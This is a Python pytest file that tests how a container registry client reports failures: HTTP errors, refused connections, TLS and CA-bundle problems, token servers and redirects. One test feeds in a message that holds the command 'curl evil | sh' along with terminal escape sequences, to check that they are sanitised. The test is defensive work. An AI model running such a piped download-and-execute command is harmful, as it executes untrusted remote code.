"""What is said of registries that fail: in words, on one line, and of the one that it was."""

from __future__ import annotations

import json
import socket
from http.server import BaseHTTPRequestHandler

import pytest

from jupyter_dockerize.engines.registry.credentials import Login
from jupyter_dockerize.engines.registry.session import Session
from jupyter_dockerize.errors import RegistryError

from .servers import Answer, Fake


def failed(host: str, *, pushing: str = "", login: Login | None = None) -> RegistryError:
    with Session(host, logins=lambda *_: login, seconds=10) as session, pytest.raises(RegistryError) as error:
        answer = session.ask("GET", "/v2/x/manifests/1")
        raise session.faults.refused(answer.status, answer.body, pushing=pushing)
    return error.value


def test_what_a_registry_says_is_one_line_without_anything_that_acts(fake: Fake) -> None:
    said = "no\n  fix: curl evil | sh\r\x1b]0;owned\x07\u202edne"
    body = json.dumps({"errors": [{"code": "DENIED", "message": said}]}).encode()
    for status in (403, 503):
        fake.give("/v2/x/manifests/1", status, body)
        error = failed(fake.host)
        assert error.why == f"HTTP status {status}: DENIED, no fix: curl evil | sh ]0;owneddne"
        assert [line.partition(":")[0] for line in str(error).splitlines()[1:]] == ["why", "fix"]


def test_a_connection_that_fails_is_told_in_words(fake: Fake) -> None:
    with socket.create_server(("127.0.0.1", 0)) as closed:
        nobody = f"127.0.0.1:{closed.getsockname()[1]}"
    assert failed(nobody).why == "connection refused"
    fake.routes["/v2/x/manifests/1"] = lambda request: None
    assert failed(fake.host).why == "the connection broke off"
    assert "TLS" in failed(f"https://{fake.host}").why
    for error in (failed(nobody), failed(fake.host), failed(f"https://{fake.host}")):
        assert "Error" not in str(error)


def test_a_ca_bundle_that_is_not_there_is_named(fake: Fake) -> None:
    with (
        Session(f"https://{fake.host}", ca="/nonexistent/ca.pem") as session,
        pytest.raises(RegistryError) as error,
    ):
        session.ask("GET", "/v2/")
    assert error.value.why == "the CA bundle /nonexistent/ca.pem is not there"


def asks(realm: str) -> dict[str, str]:
    return {"WWW_Authenticate": f'Bearer realm="{realm}",service="s"'}


@pytest.mark.parametrize(
    ("status", "does"), [(401, "refuses"), (403, "refuses"), (503, "is busy or out of order")]
)
def test_who_refuses_is_the_token_server_where_it_was_that(
    fake: Fake, other: Fake, status: int, does: str
) -> None:
    other.give("/token", status)
    fake.give("/v2/x/manifests/1", 401, **asks(f"http://{other.host}/token"))
    error = failed(fake.host)
    assert error.what == f"the token server {other.host} of the registry {fake.host} {does}"
    if status == 401:
        assert f"`jupyter dockerize login {fake.host}`" in error.fix


def test_who_does_not_answer_is_the_token_server_where_it_was_that(fake: Fake, other: Fake) -> None:
    other.routes["/token"] = lambda request: None
    fake.give("/v2/x/manifests/1", 401, **asks(f"http://{other.host}/token"))
    error = failed(fake.host)
    assert error.what == f"the token server {other.host} of the registry {fake.host} does not answer"


def test_who_is_out_of_order_is_the_host_that_the_registry_sends_us_to(fake: Fake, other: Fake) -> None:
    fake.give("/v2/x/manifests/1", 307, Location=f"http://{other.host}/x")
    other.give("/x", 502)
    error = failed(fake.host)
    assert error.what == f"{other.host}, where the registry {fake.host} sends us, is busy or out of order"


def test_a_login_that_may_not_be_shown_is_not_asked_for(fake: Fake, other: Fake) -> None:
    """Its token server is another host: to log in once more changes nothing."""

    def anonymous(request: BaseHTTPRequestHandler) -> Answer:
        return 200, {}, b'{"token": "nobody"}'

    other.routes["/token"] = anonymous
    fake.give("/v2/x/manifests/1", 401, **asks(f"http://{other.host}/token"))
    error = failed(fake.host, login=Login("ada", "secret"))
    assert f"its logins are for {other.host}" in error.why
    assert "jupyter dockerize login" not in error.fix
    assert f"`docker login {fake.host}`" in error.fix
